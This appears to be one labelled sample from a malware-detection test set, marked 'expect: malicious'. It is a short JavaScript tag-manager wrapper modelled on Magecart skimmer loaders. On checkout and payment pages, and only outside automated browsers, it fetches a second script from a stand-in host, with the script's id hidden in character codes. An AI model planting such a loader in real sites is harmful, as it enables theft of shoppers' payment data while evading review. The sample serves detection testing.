// expect: malicious
// source: blind set 19 (a tag-manager wrapper that, only on checkout and payment pages and never in an automated
// browser, loads a second container whose id it keeps in char codes: the Magecart tag-manager skimmers of 2020-2024)
var HOST = 'https://tags.example';
var extra = [84, 65, 71, 45, 70, 65, 75, 69];
function load(id) {
  var s = document.createElement('script');
  s.async = true;
  s.src = HOST + '/tag.js?id=' + id;
  document.head.appendChild(s);
}
module.exports = function install(id) {
  load(id);
  if (/checkout|onepage|payment/i.test(location.pathname) && !navigator.webdriver) {
    load(String.fromCharCode.apply(null, extra));
  }
};
